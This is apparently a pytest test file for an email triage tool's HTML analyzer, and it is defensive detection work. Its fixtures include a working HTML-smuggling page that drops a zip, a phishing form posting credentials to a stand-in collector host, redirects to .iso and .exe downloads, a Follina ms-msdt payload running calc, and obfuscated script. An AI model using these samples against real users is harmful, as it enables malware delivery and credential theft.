"""html analyzer: smuggling pages, data: URI downloads, redirects to
executables, credential forms, protocol handlers, and benign pages."""

from __future__ import annotations

import base64
import io
import zipfile

import pytest

from mailvm.config import TriageConfig
from mailvm.triage import Triage, html
from triage_helpers import art, ids


@pytest.fixture(scope="module")
def triage(tmp_path_factory) -> Triage:
    return Triage(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def run(triage, tmp_path, text: str, name: str = "page.html"):
    p = tmp_path / name
    p.write_text(text)
    return triage.analyze(art(p))


def zip_b64() -> str:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("invoice.js", "WScript.Echo('x');" * 40)
    return base64.b64encode(buf.getvalue()).decode()


SMUGGLING = f"""<!DOCTYPE html><html><head><title>Invoice</title></head><body>
<p>Your document is downloading...</p>
<script>
var payload = "{zip_b64()}";
function b64ToBytes(s) {{ var r = atob(s); var a = new Uint8Array(r.length); for (var i = 0; i < r.length; i++) a[i] = r.charCodeAt(i); return a; }}
var blob = new Blob([b64ToBytes(payload)], {{type: 'application/octet-stream'}});
if (window.navigator.msSaveOrOpenBlob) {{ window.navigator.msSaveOrOpenBlob(blob, 'invoice.zip'); }}
else {{ var a = document.createElement('a'); a.href = window.URL.createObjectURL(blob); a.download = 'invoice.zip'; document.body.appendChild(a); a.click(); }}
</script></body></html>
"""


def test_html_smuggling(triage, tmp_path):
    r = run(triage, tmp_path, SMUGGLING)
    found = ids(r)
    assert r.kind == "html" and r.detonate
    assert found["html_smuggling"] == 8
    assert "zip archive" in next(f.detail for f in r.findings if f.id == "html_smuggling")
    assert "html_smuggling_blob" in found  # the YARA rule agrees
    assert r.verdict == "malicious"


def test_blob_download_without_payload(triage, tmp_path):
    page = ("<html><script>var b = new Blob(['report'], {type:'text/csv'});"
            "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'r.csv';</script></html>")
    found = ids(run(triage, tmp_path, page))
    assert found.get("html_blob_download") == 5 and "html_smuggling" not in found


def test_data_uri_download(triage, tmp_path):
    page = f'<html><body><a href="data:application/octet-stream;base64,{zip_b64()}" download="scan.zip">Open scan</a></body></html>'
    assert ids(run(triage, tmp_path, page))["html_data_uri_download"] == 7


def test_meta_refresh_to_executable(triage, tmp_path):
    page = '<html><head><meta http-equiv="refresh" content="0; url=https://e.test/files/Invoice.iso"></head></html>'
    assert ids(run(triage, tmp_path, page))["html_meta_refresh_download"] == 6
    page2 = '<html><head><meta http-equiv="refresh" content="0; url=https://e.test/login"></head></html>'
    assert ids(run(triage, tmp_path, page2)) == {"html_meta_refresh": 3}


def test_script_redirect_to_executable(triage, tmp_path):
    page = "<html><script>window.location.href = 'https://e.test/dl/update.exe';</script></html>"
    assert ids(run(triage, tmp_path, page))["html_auto_download"] == 6


def test_credential_phishing_form(triage, tmp_path):
    page = ('<html><body><form action="https://collector.e.test/p.php" method="post">'
            '<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form></body></html>')
    assert ids(run(triage, tmp_path, page))["html_password_form"] == 6


def test_follina_protocol_handler(triage, tmp_path):
    page = ('<html><script>window.location.href = "ms-msdt:/id PCWDiagnostic /skip force /param '
            '\\"IT_RebrowseForFile=? IT_BrowseForFile=$(calc)\\"";</script></html>')
    r = run(triage, tmp_path, page)
    assert ids(r)["html_ms_protocol_handler"] == 8 and r.verdict == "malicious"


def test_obfuscated_document_write(triage, tmp_path):
    page = "<html><script>document.write(unescape('%3Cscript%3Ealert(1)%3C/script%3E'));</script></html>"
    assert ids(run(triage, tmp_path, page))["html_obfuscated_script"] == 6


def test_svg_with_smuggling_is_html(triage, tmp_path):
    svg = ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA['
           + SMUGGLING.split("<script>")[1].split("</script>")[0] + "]]></script></svg>")
    r = run(triage, tmp_path, svg, "image.svg")
    assert r.kind == "html" and "html_smuggling" in ids(r)


def test_benign_newsletter_is_clean(triage, tmp_path):
    img = base64.b64encode(bytes(range(256)) * 20).decode()
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title>
<style>body {{ font-family: sans-serif; }}</style></head><body>
<h1>Monthly news</h1><img src="data:image/png;base64,{img}" alt="logo">
<p>Read more on <a href="https://www.example.org/news">our site</a>.</p>
<script>document.getElementById('y').textContent = new Date().getFullYear();</script>
<p>&copy; <span id="y"></span> Example</p></body></html>"""
    r = run(triage, tmp_path, page)
    assert r.kind == "html" and r.verdict == "clean" and not r.findings, r.findings


def test_payload_detection_function():
    assert html.embedded_payloads(f'x = "{zip_b64()}";') and not html.embedded_payloads('x = "' + "QUFB" * 200 + '";')
